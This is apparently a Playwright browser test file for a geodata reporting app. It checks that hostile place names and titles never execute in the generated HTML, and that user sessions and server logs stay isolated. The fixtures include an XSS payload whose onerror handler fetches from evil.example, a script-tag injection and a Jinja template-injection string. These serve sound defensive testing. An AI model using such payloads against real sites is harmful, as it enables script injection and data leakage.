"""Hostile names in every place that reaches HTML, and session isolation, in Chromium."""

from __future__ import annotations

import geopandas as gpd
import pandas as pd
import pytest
from playwright.sync_api import expect

from lillegeo.outputs import run_recipe
from lillegeo.recipe import Recipe, sha256_file

from .conftest import ARTIFACTS, SLOW_MS, load_files, new_context, wait_idle
from .test_explore import FOLIUM

pytestmark = pytest.mark.browser
XSS = "<img src=x onerror=\"document.title='pwned';fetch('http://evil.example/x')\">"
SCRIPT = "<script>document.title='pwned'</script>"
JINJA = "{{ 'lille' ~ 'geo' ~ 7*7 }}{% for i in range(2) %}loop{% endfor %}"  # folium re-renders data as Jinja


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, grid_units):
    d = tmp_path_factory.mktemp("hostile")
    g = grid_units.copy()
    g["nom_iris"] = [XSS, SCRIPT, JINJA] + [f"U{i}" for i in range(3)]
    g["nom_commune"] = SCRIPT
    g.to_file(d / "units.geojson")
    t = pd.DataFrame({"IRIS": g["code_iris"], SCRIPT: [100.0, 300, 70, 40, 600, 250], "P20_POP": [1000.0] * 6,
                      XSS: ["=1+1", XSS, "a", "b", "c", "d"]})
    t.to_csv(d / "census.csv", sep=";", index=False)
    r = Recipe(title=XSS, sources={"units": {"path": "units.geojson", **_h(d / "units.geojson")},
                                   "table": {"path": "census.csv", **_h(d / "census.csv")}})
    r = r.replace(base_dir=d, slides=[{"layer": "explore", "title": XSS, "caption": SCRIPT},
                                      {"layer": "hotspots", "title": SCRIPT, "caption": XSS}])
    r = r.with_params("explore", column=SCRIPT, per="P20_POP", exclude_ad=False)
    r = r.with_params("hotspots", column=SCRIPT, permutations=99, weights="knn:2")
    out = d / "out"
    run_recipe(r, out)
    return out


def _h(p):
    h, n = sha256_file(p)
    return {"sha256": h, "size": n}


@pytest.fixture(scope="module")
def grid_units():
    from shapely.geometry import box

    geoms, rows = [], []
    for i in range(3):
        for j in range(2):
            geoms.append(box(700_000 + i * 1000, 7_050_000 + j * 1000, 701_000 + i * 1000, 7_051_000 + j * 1000))
            rows.append({"code_iris": f"59350{i:02d}{j:02d}", "nom_iris": "", "code_insee": "59350",
                         "nom_commune": "", "type_iris": "H"})
    return gpd.GeoDataFrame(rows, geometry=geoms, crs=2154)


@pytest.mark.parametrize("doc", ["report.html", "presentation.html", "maps/explore.html", "maps/hotspots.html"])
def test_no_script_runs_from_hostile_names(hostile_run, page, doc):
    page.goto((hostile_run / doc).as_uri())
    if doc != "report.html":  # the map (in the slides' frame) is drawn: its scripts have run
        drawn_in = page.frame_locator("#frame") if doc == "presentation.html" else page
        drawn_in.locator('[data-lillegeo="legend"]').wait_for()
    page.wait_for_load_state("networkidle")  # and whatever a name could have fetched was asked for
    title = page.title()
    assert title != "pwned"  # the title may show the hostile text, literally: that is the point
    text = page.locator("body").inner_text()
    for f in page.frames:  # a name is never evaluated as a template on the server
        assert "lillegeo49" not in f.content() and "looploop" not in f.content()
    if doc == "report.html":
        assert XSS in text and SCRIPT in text  # shown literally
    if doc == "presentation.html":
        assert page.locator("#title").inner_text() == XSS
        page.keyboard.press("ArrowRight")
        expect(page.locator("#title")).to_have_text(SCRIPT)
        page.frame_locator("#frame").locator('[data-lillegeo="legend"]').wait_for()
        page.wait_for_load_state("networkidle")
    for f in page.frames:
        assert f.evaluate("document.title") != "pwned"
        assert f.locator("img[src='x'], .leaflet-tooltip img").count() == 0
    assert page.watch.dialogs == [] and page.watch.remote == [], (page.watch.dialogs, page.watch.remote)


def test_two_sessions_see_only_their_own_data(app_url, browser, tmp_path, grid_units):
    from .conftest import Watch

    path = tmp_path / "mine.geojson"
    g = grid_units.copy()
    g["nom_iris"] = [f"Mine {i}" for i in range(6)]
    g.to_crs(4326).to_file(path)
    a, b = new_context(browser), new_context(browser)
    pa, pb = a.new_page(), b.new_page()
    pa.watch, pb.watch = Watch(pa), Watch(pb)
    try:
        pa.goto(app_url)
        pa.get_by_role("link", name="1 · Data").click()
        pa.get_by_text("My own files").click()
        pa.locator('[data-testid="stMain"] [data-testid="stFileUploaderDropzoneInput"]').first.set_input_files(str(path))
        load_files(pa, "Loaded: mine.geojson")
        pa.get_by_text("6 units in 1 commune(s)").wait_for()
        pb.goto(app_url)
        pb.frame_locator(FOLIUM).locator('[data-lillegeo="legend"]').wait_for(timeout=SLOW_MS)
        wait_idle(pb)
        assert pb.get_by_text("374 units in 14 commune(s)").count() == 1  # B still on the demo
        assert pb.get_by_text("mine.geojson").count() == 0
        pb.get_by_role("link", name="1 · Data").click()
        pb.get_by_text("What the readers did").wait_for()
        wait_idle(pb)
        assert pb.get_by_text("mine.geojson").count() == 0
        pa.screenshot(path=str(ARTIFACTS / "session_a.png"))
    finally:
        a.close()
        b.close()
    # logs hold no row-level data: none of the uploaded unit codes or names reached the server log
    log = (ARTIFACTS / "streamlit.log").read_text(errors="replace")
    assert not [v for v in list(g["code_iris"]) + list(g["nom_iris"]) if v in log]
    # uploads are read in memory; zip and driver files go to a private temporary folder removed after reading
    import tempfile
    from pathlib import Path

    assert not list(Path(tempfile.gettempdir()).glob("lillegeo-*/upload*"))

